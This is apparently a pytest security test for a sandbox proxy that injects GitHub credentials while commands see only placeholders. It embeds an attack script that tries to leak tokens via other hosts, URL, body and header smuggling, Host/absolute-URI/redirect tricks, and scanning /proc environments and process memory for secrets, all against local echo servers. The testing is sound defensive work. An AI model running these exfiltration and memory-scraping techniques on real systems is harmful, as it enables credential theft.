"""Credentials the command never holds: the proxy injects them, in each sandbox.

A profile binds ``github`` (bearer) and ``gitpush`` (basic auth) to ``bound.test``, a live
HTTPS echo server on loopback that records what it received and echoes the request's
headers back (in a header and in the body; with a length, chunked with the secret split
across chunks, close-delimited, gzip'd). ``other.test`` (HTTPS) and ``plain.test`` (HTTP)
are two more allowed echo servers. The command gets placeholders; an attacker script then
tries everything: reading its environment, ``/proc`` and its files for the value, sending
the placeholder elsewhere, smuggling it in the URL, the body or another header, and making
the proxy inject for another host (a ``Host`` that names it, an absolute URI, a redirect).
It writes every answer to a file in the workspace (which no scrubbing touches), and
everything it could read to another, and the test looks for the secret's bytes there, in
the result, the events and every file of the store; it also reads the memory of every
process it can (under Landlock the host's processes are visible, not readable). Controls:
the upstream does receive
the secret (so it was there to leak), the scan does find the placeholder and a planted
canary (so it reads what it claims to).
"""

from __future__ import annotations

import base64
import json
import os
import secrets
from pathlib import Path

import pytest

from helpers.echo_tls import EchoUpstream
from stockade import hookimpl
from stockade.config.schema import Config, NetworkConfig
from stockade.record.redact import secret_forms
from stockade.request.spec import CredentialBinding, Profile
from stockade.request.wire import to_json

from .conftest import PYTHON

ATTACK = r"""
import glob, http.client, json, os, ssl, sys, urllib.parse
ph, gp = os.environ["GITHUB_TOKEN"], os.environ["GIT_TOKEN"]
import base64
basic = "Basic " + base64.b64encode(("x-access-token:" + gp).encode()).decode()
bp, op, hp = (int(a) for a in sys.argv[1:4])
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
B, O, P = "bound.test:%d" % bp, "other.test:%d" % op, "plain.test:%d" % hp
out = {}

def answer(c, method, target, headers, body=None, host=None, again=None):
    try:
        c.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
        if host:
            c.putheader("Host", host)
        for k, v in headers.items():
            c.putheader(k, v)
        if body is not None:
            c.putheader("Content-Length", str(len(body)))
        c.endheaders(body)
        r = c.getresponse()
        return {"status": r.status, "headers": r.getheaders(), "body": r.read().decode("latin-1")}
    except Exception as error:
        return {"error": repr(error)}

def context(name):
    made = ssl.create_default_context()  # the run's bundle, through SSL_CERT_FILE
    if name == "other.test":  # a plain tunnel: the test's own certificate there
        made.load_verify_locations("other-ca.pem")
    return made

def tls(name, port, method, target, headers, body=None, host=None, keep=None):
    c = keep or http.client.HTTPSConnection(
        proxy.hostname, proxy.port, context=context(name), timeout=20)
    if keep is None:
        c.set_tunnel(name, port)
    try:
        return answer(c, method, target, headers, body, host or "%s:%d" % (name, port))
    finally:
        if keep is None:
            c.close()

def plain(url, headers, body=None):
    c = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=20)
    try:
        return answer(c, "POST" if body else "GET", url, headers, body,
                      urllib.parse.urlsplit(url).netloc)
    finally:
        c.close()

def tunnel_plain(path, headers):  # HTTP inside a CONNECT tunnel, as curl -p sends it
    c = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=20)
    c.set_tunnel("plain.test", hp)
    try:
        return answer(c, "GET", path, headers, None, P)
    finally:
        c.close()

bearer = {"Authorization": "Bearer " + ph}
out["echo"] = tls("bound.test", bp, "GET", "/echo", bearer)
out["basic"] = tls("bound.test", bp, "GET", "/echo", {"Authorization": basic})
out["chunked"] = tls("bound.test", bp, "GET", "/chunked", bearer)
out["close"] = tls("bound.test", bp, "GET", "/close", bearer)
out["gzip"] = tls("bound.test", bp, "GET", "/gzip", bearer)
keep = http.client.HTTPSConnection(proxy.hostname, proxy.port,
                                   context=ssl.create_default_context(), timeout=20)
keep.set_tunnel("bound.test", bp)
out["keep1"] = tls("bound.test", bp, "GET", "/echo?n=1", bearer, keep=keep)
out["keep2"] = tls("bound.test", bp, "POST", "/echo?n=2", bearer, body=b"x=1", keep=keep)
keep.close()
out["in_url"] = tls("bound.test", bp, "GET", "/echo?token=" + ph, {})
out["in_body"] = tls("bound.test", bp, "POST", "/echo", {}, body=b"token=" + ph.encode())
out["other_header"] = tls("bound.test", bp, "GET", "/echo", {"X-Api-Key": ph})
out["host_mismatch"] = tls("bound.test", bp, "GET", "/echo", bearer, host=O)
out["absolute"] = tls("bound.test", bp, "GET", "https://%s/echo" % O, bearer)
out["disallowed"] = tls("denied.test", bp, "GET", "/echo", bearer)  # not in the hosts
out["to_other_tls"] = tls("other.test", op, "GET", "/echo", bearer)
out["to_plain"] = plain("http://%s/echo" % P, bearer)
out["to_plain_url"] = plain("http://%s/echo?t=%s" % (P, ph), {})
out["to_plain_body"] = plain("http://%s/echo" % P, {}, body=b"t=" + ph.encode())
out["to_plain_clean"] = plain("http://%s/echo" % P, {})
out["to_plain_tunnel"] = tunnel_plain("/echo", bearer)
out["to_plain_tunnel_clean"] = tunnel_plain("/echo", {})
redirect = tls("bound.test", bp, "GET", "/redirect?to=https://%s/echo" % O, bearer)
out["redirect"] = redirect
location = dict(redirect.get("headers", [])).get("Location", "")
# Follow it as curl --location-trusted would: the header goes along.
out["redirected"] = tls("other.test", op, "GET", "/echo", bearer) if location else {}
out["redirect_plain"] = plain("http://%s/echo" % P, bearer)
out["placeholders"] = [ph, gp]
open("results.json", "w").write(json.dumps(out))

# Everything the command can read that could hold the value.
seen = bytearray()
seen += repr(dict(os.environ)).encode()
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        seen += open(path, "rb").read()
    except OSError:
        pass
roots = {os.environ.get("HOME", ""), os.getcwd(), "/run", "/tmp", os.environ.get("TMPDIR", "")}
roots |= {os.path.dirname(os.environ["SSL_CERT_FILE"])}
files = 0
# Installed trees (a venv under any name, caches) are the host's, never where a run writes:
# walking them made the Landlock run, which sees the host's /tmp, take half a minute.
INSTALLED = {".venv", "site-packages", "node_modules", ".git", "__pycache__"}
for root in filter(None, roots):
    for folder, dirs, names in os.walk(root):
        dirs[:] = [] if "pyvenv.cfg" in names else [d for d in dirs if d not in INSTALLED]
        for name in names:
            try:
                with open(os.path.join(folder, name), "rb") as handle:
                    seen += handle.read(1 << 20)
                files += 1
            except OSError:
                pass
# Every process's memory it can read: tokens of the secret's shape found there.
import re
shape = re.compile(rb"ghp_[A-Za-z0-9_-]{20,}")
readable = []
for maps in glob.glob("/proc/[0-9]*/maps"):
    pid = maps.split("/")[2]
    try:
        with open(maps) as regions, open("/proc/%s/mem" % pid, "rb") as mem:
            for line in regions:
                span, perms = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if "r" not in perms or end - start > 1 << 28:
                    continue
                try:
                    mem.seek(start)
                    seen += b" ".join(shape.findall(mem.read(end - start)))
                except (OSError, OverflowError, ValueError):
                    continue
            readable.append(pid)
    except OSError:
        pass
open("seen.bin", "wb").write(bytes(seen))
print("scanned", files, "files; memory of", len(readable), "processes:", readable)
"""


class Networked:
    """Classes the test's Python script as ``network``."""

    @hookimpl
    def stockade_classifier_rules(self):
        return {"python": lambda args: ("network", "the test's attack script talks to hosts")}


@pytest.fixture
def upstreams(box):
    made = {
        "bound": EchoUpstream(box.root / "bound", ("bound.test",)),
        "other": EchoUpstream(box.root / "other", ("other.test",)),
        "plain": EchoUpstream(box.root / "plain", tls=False),
    }
    yield made
    for server in made.values():
        server.close()


def make_secret() -> str:
    return "ghp_" + secrets.token_urlsafe(27)


def forms_in(data: bytes, secret: str) -> list[str]:
    return [form for form in secret_forms(secret) if form.encode() in data]


def test_the_proxy_injects_and_the_command_never_holds_the_value(
    box, make_host, event_log, upstreams
):
    token, push = make_secret(), make_secret()
    bound, other, plain = upstreams["bound"], upstreams["other"], upstreams["plain"]
    trusted = box.root / "upstream-ca.pem"
    trusted.write_text(Path(bound.cafile).read_text() + Path(other.cafile).read_text())
    at = f"bound.test:{bound.port}"
    profile = Profile(
        name="net",
        hosts=(at, f"other.test:{other.port}", f"plain.test:{plain.port}"),
        ask=(),
        workspace=str(box.ws),
        credentials={
            "github": CredentialBinding(at),
            "gitpush": CredentialBinding(at, username="x-access-token"),
        },
    )
    names = ("bound.test", "other.test", "plain.test")
    config = Config(
        sandbox=box.sandbox,
        agents={"net": profile},
        network=NetworkConfig(resolve=dict.fromkeys(names, "127.0.0.1"), upstream_ca=str(trusted)),
    )
    environ = {**os.environ, "STOCKADE_SECRET_GITHUB": token, "STOCKADE_SECRET_GITPUSH": push}
    host = make_host(config=config, plugins=[event_log, Networked()], environ=environ)
    canary = box.home / "canary.txt"
    canary.write_text(box.canary)
    (box.ws / "other-ca.pem").write_text(Path(other.cafile).read_text())
    script = box.ws / "attack.py"
    script.write_text(ATTACK)
    ports = (str(bound.port), str(other.port), str(plain.port))
    result = host.run(
        box.request(
            [PYTHON, "-S", str(script), *ports],
            profile="net",
            credentials={"GITHUB_TOKEN": "github", "GIT_TOKEN": "gitpush"},
        )
    )
    how = f"signal {result.signal}, timed out {result.timed_out}, {result.duration_ms} ms\n"
    assert result.exit_code == 0, how + result.stdout.text + result.stderr.text
    print(result.stdout.text)  # what it scanned, and whose memory it could read
    out = json.loads((box.ws / "results.json").read_text())

    # Functional: the bound host got the values, for bearer and basic, kept alive too.
    received = bound.received()
    assert f"Bearer {token}" in received
    assert "Basic " + base64.b64encode(f"x-access-token:{push}".encode()).decode() in received
    for name in ("echo", "basic", "chunked", "close", "keep1", "keep2"):
        assert out[name]["status"] == 200, (name, out[name])
    assert sum(1 for r in bound.seen if str(r["path"]).startswith("/echo?n=")) == 2
    # The echo came back masked: headers, a split chunked body, a close-delimited body.
    assert "*" * 10 in dict(out["echo"]["headers"])["X-Echo-Authorization"]
    assert out["gzip"]["status"] == 502 and "compressed" in out["gzip"]["body"]

    # Smuggling to the bound host: refused inside the tunnel, never delivered.
    for name in ("in_url", "in_body", "other_header", "host_mismatch"):
        assert out[name].get("status") == 403, (name, out[name])
    assert out["absolute"].get("status") == 400, out["absolute"]
    assert "Tunnel connection failed: 403" in out["disallowed"]["error"]
    paths = [str(r["path"]) for r in bound.seen]
    assert not any("token=" in p or p.startswith("https:") for p in paths), paths
    assert "X-Api-Key" not in received

    # Another host: plain HTTP is read, and refused; a TLS tunnel gets the placeholder only.
    for name in ("to_plain", "to_plain_url", "to_plain_body", "redirect_plain", "to_plain_tunnel"):
        assert out[name].get("status") == 403, (name, out[name])
        assert "'github'" in out[name]["body"] and "bound.test" in out[name]["body"]
    assert out["to_plain_clean"]["status"] == 200  # the control: plain.test is reachable
    assert out["to_plain_tunnel_clean"]["status"] == 200  # ... through a tunnel too
    # A refused body may leave its head upstream; never a placeholder (nor a secret).
    for stand_in in out["placeholders"]:
        assert forms_in(plain.received().encode(), stand_in) == [], plain.seen
    assert out["redirect"]["status"] == 302  # relayed, never followed by the proxy
    assert out["to_other_tls"]["status"] == 200
    assert token not in other.received() and push not in other.received()
    assert "Bearer ghp_" in other.received()  # the placeholder, which is worth nothing there

    # The value is nowhere the command could read, and nowhere it got back.
    seen = (box.ws / "seen.bin").read_bytes()
    assert box.canary.encode() in seen  # the control: the scan reads files ...
    assert b"GITHUB_TOKEN" in seen  # ... and its environment ...
    assert "memory of 0 processes" not in result.stdout.text  # ... and memory (its own)
    for secret in (token, push):
        for where, data in (
            ("what the command could read", seen),
            ("the answers it got", (box.ws / "results.json").read_bytes()),
            ("its output", (result.stdout.text + result.stderr.text).encode()),
            ("the result", to_json(result).encode()),
        ):
            assert forms_in(data, secret) == [], where
        for event in event_log.events:
            assert forms_in(to_json(event).encode(), secret) == [], event.kind

    # The record names the handles and the hosts of what it refused.
    connections = [e for e in event_log.events if e.kind == "connection"]
    refused = [c.reason for c in connections if not c.allowed]
    assert any("'github'" in r and "plain.test" in r for r in refused), refused
    assert any("'github'" in r and "X-Api-Key" in r for r in refused), refused
    used = [c.reason for c in connections if c.allowed and "credential 'github' put" in c.reason]
    assert used, [c.reason for c in connections]
    assert event_log.events[0].credentials == {"GITHUB_TOKEN": "github", "GIT_TOKEN": "gitpush"}

    host.close()
    state = Path(os.environ["XDG_STATE_HOME"])
    files = [p for p in state.rglob("*") if p.is_file()]
    assert any(p.name.startswith("store.db") for p in files), files
    for path in files:
        data = path.read_bytes()
        for secret in (token, push):
            assert forms_in(data, secret) == [], path


def one_binding_host(box, make_host, bound, *, handle, binding, secret, plugin, breaker="on"):
    """A host whose profile allows ``bound`` only and binds ``handle`` there; the built-in
    broker holds ``secret`` for it."""
    at = f"bound.test:{bound.port}"
    profile = Profile(
        name="net",
        hosts=(at,),
        ask=(),
        workspace=str(box.ws),
        credentials={handle: binding},
        breaker=breaker,
    )
    config = Config(
        sandbox=box.sandbox,
        agents={"net": profile},
        network=NetworkConfig(resolve={"bound.test": "127.0.0.1"}, upstream_ca=bound.cafile),
    )
    variable = "STOCKADE_SECRET_" + handle.upper()
    return make_host(config=config, plugins=[plugin], environ={**os.environ, variable: secret})


CURL = "/usr/bin/curl"
# Writes curl's header file from the variable, then becomes curl (one sandboxed command).
CURL_WITH_TOKEN = """
import os, sys
open("header.txt", "w").write("Authorization: token " + os.environ["GH_TOKEN"] + "\\n")
os.execv(sys.argv[1], sys.argv[1:])
"""


def test_curl_in_the_sandbox_calls_the_upstream_with_the_placeholder(box, make_host, upstreams):
    token = make_secret()
    bound = upstreams["bound"]
    at = f"bound.test:{bound.port}"
    binding = CredentialBinding(at, format="token {}")
    # Two network steps of one run that used a credential and read the upstream's answer:
    # the breaker would hold the second for a person (tests/security/test_breaker.py); this
    # test is about the injection alone, so its profile opts out.
    host = one_binding_host(
        box,
        make_host,
        bound,
        handle="github",
        binding=binding,
        secret=token,
        plugin=Networked(),
        breaker="off-allow-exfiltration",
    )
    (box.ws / "curl_with_token.py").write_text(CURL_WITH_TOKEN)
    fetch = [CURL, "-sS", "--max-time", "20", "-H", "@header.txt", f"https://{at}/echo"]
    result = host.run(
        box.request(
            [PYTHON, "-S", "curl_with_token.py", *fetch],
            profile="net",
            credentials={"GH_TOKEN": "github"},
        )
    )
    assert result.exit_code == 0, result.stdout.text + result.stderr.text
    held = (box.ws / "header.txt").read_text().split()[-1]
    assert held.startswith("ghp_") and held != token and len(held) >= len(token)
    assert [dict(r["headers"])["Authorization"] for r in bound.seen] == [f"token {token}"]
    answer = json.loads(result.stdout.text)  # the echo, masked by the proxy
    assert answer["headers"]["Authorization"].startswith("token ***")
    # The run keeps its placeholder; a curl that trusts nothing refuses the proxy's leaf:
    # the run's authority is trusted only through the variables the sandbox sets.
    untrusting = [*fetch[:-1], "--cacert", str(box.ws / "header.txt"), fetch[-1]]
    bare = host.run(
        box.request(
            [PYTHON, "-S", "curl_with_token.py", *untrusting],
            profile="net",
            credentials={"GH_TOKEN": "github"},
        )
    )
    assert bare.exit_code != 0, bare.stdout.text
    assert (box.ws / "header.txt").read_text().split()[-1] == held
    assert len(bound.seen) == 1


GIT_WITH_TOKEN = """
import os, sys
url = "https://x-access-token:%s@%s/repo.git" % (os.environ["GIT_TOKEN"], sys.argv[1])
os.execv("/usr/bin/git", ["git", "ls-remote", url])
"""


def test_git_over_https_gets_basic_auth_from_the_proxy(box, make_host, upstreams):
    push = make_secret()
    bound = upstreams["bound"]
    at = f"bound.test:{bound.port}"
    binding = CredentialBinding(at, username="x-access-token")
    host = one_binding_host(
        box, make_host, bound, handle="gitpush", binding=binding, secret=push, plugin=Networked()
    )
    (box.ws / "git_with_token.py").write_text(GIT_WITH_TOKEN)
    result = host.run(
        box.request(
            [PYTHON, "-S", "git_with_token.py", at],
            profile="net",
            credentials={"GIT_TOKEN": "gitpush"},
            env={"GIT_TERMINAL_PROMPT": "0"},
        )
    )
    # The echo is no git server, so git fails after its authenticated request; what
    # counts is what reached the server: git's placeholder, turned into the secret.
    sent = [dict(r["headers"]).get("Authorization") for r in bound.seen]
    expected = "Basic " + base64.b64encode(f"x-access-token:{push}".encode()).decode()
    assert sent[0] is None and len(sent) >= 2, (sent, result.stderr.text)
    assert set(sent[1:]) == {expected}
    assert forms_in((result.stdout.text + result.stderr.text).encode(), push) == []


NODE = "/usr/bin/node"
# Node.js has no proxy support of its own: CONNECT by hand, then TLS over that socket,
# trusting what NODE_EXTRA_CA_CERTS adds.
NODE_FETCH = """
const http = require("http"), tls = require("tls");
const proxy = new URL(process.env.HTTPS_PROXY), target = process.argv[2];
const connect = http.request({host: proxy.hostname, port: proxy.port, method: "CONNECT",
                              path: target});
connect.on("connect", (res, socket) => {
  const [name] = target.split(":");
  const secure = tls.connect({socket, servername: name}, () => {
    secure.write(`GET /echo HTTP/1.1\\r\\nHost: ${target}\\r\\n` +
      `Authorization: Bearer ${process.env.GH_TOKEN}\\r\\nConnection: close\\r\\n\\r\\n`);
  });
  let answer = "";
  secure.on("data", (d) => { answer += d; });
  secure.on("end", () => { process.stdout.write(answer); });
  secure.on("error", (e) => { console.error("TLS", e.message); process.exit(3); });
});
connect.end();
"""


class NodeFetch:
    """Classes ``node`` as ``network``."""

    @hookimpl
    def stockade_classifier_rules(self):
        return {"node": lambda args: ("network", "the test's Node.js fetch")}


@pytest.mark.skipif(not os.path.exists(NODE), reason="Node.js is not installed")
def test_node_trusts_the_run_authority_through_its_variable(box, make_host, upstreams):
    token = make_secret()
    bound = upstreams["bound"]
    at = f"bound.test:{bound.port}"
    binding = CredentialBinding(at)
    host = one_binding_host(
        box, make_host, bound, handle="github", binding=binding, secret=token, plugin=NodeFetch()
    )
    (box.ws / "fetch.js").write_text(NODE_FETCH)
    result = host.run(
        box.request([NODE, "fetch.js", at], profile="net", credentials={"GH_TOKEN": "github"})
    )
    assert result.exit_code == 0, result.stdout.text + result.stderr.text
    assert result.stdout.text.startswith("HTTP/1.1 200")
    assert [dict(r["headers"])["Authorization"] for r in bound.seen] == [f"Bearer {token}"]
